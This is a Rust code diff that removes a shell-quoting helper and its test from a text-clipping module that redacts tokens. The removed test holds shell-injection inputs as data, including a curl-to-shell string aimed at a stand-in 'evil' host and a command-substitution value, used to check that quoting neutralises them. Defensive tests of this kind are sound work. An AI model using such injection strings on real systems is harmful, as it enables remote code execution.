@@ -17,15 +17,6 @@ pub(super) fn clip(text: &str) -> String {
     if short.len() < text.len() { format!("{short}…") } else { short }
 }
 
-/// Returns a text as one word of a shell, for a command that a person may copy.
-pub(super) fn shell_word(text: &str) -> String {
-    let is_plain = |c: char| c.is_ascii_alphanumeric() || "._:/@-".contains(c);
-    match !text.is_empty() && text.chars().all(is_plain) {
-        true => text.to_owned(),
-        false => format!("'{}'", text.replace('\'', r"'\''")),
-    }
-}
-
 /// Maximum number of characters shown of a text of the server.
 const MAX_SHOWN: usize = 160;
 
@@ -39,18 +30,5 @@ mod tests {
         let text = format!("{} key {key}", "word ".repeat(30));
         assert!(!clip(&text).contains("sk-a"), "{}", clip(&text));
         assert_eq!(clip("at http://h/?MCP_PROXY_AUTH_TOKEN=deadbeef now"), "at http://h/?… now");
-    }
-
-    #[test]
-    fn words_of_a_shell_run_nothing() {
-        for (text, expected) in [
-            ("https://h.example:1/a_b-c", "https://h.example:1/a_b-c"),
-            ("a;curl${IFS}evil|sh", "'a;curl${IFS}evil|sh'"),
-            ("a'$(x)'", r"'a'\''$(x)'\'''"),
-            ("http://h/?…", "'http://h/?…'"),
-            ("", "''"),
-        ] {
-            assert_eq!(shell_word(text), expected);
-        }
     }
 }
